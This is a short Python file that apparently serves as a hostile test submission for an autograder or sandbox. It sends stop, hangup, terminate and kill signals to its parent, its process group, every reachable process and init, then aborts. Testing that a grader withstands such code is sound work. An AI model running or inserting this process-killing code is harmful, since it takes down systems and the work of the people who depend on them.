"""The copy signals itself, its parent, its group and all that it can reach."""

MARKS = {"total": 0, "step": 0}
SILENT = True

# %% answer="total"
import os
import signal

for number in (signal.SIGSTOP, signal.SIGHUP, signal.SIGTERM, signal.SIGKILL):
    for pid in (os.getppid(), 0, -1, 1, 2):
        try:
            os.kill(pid, number)
        except OSError:
            pass
os.abort()
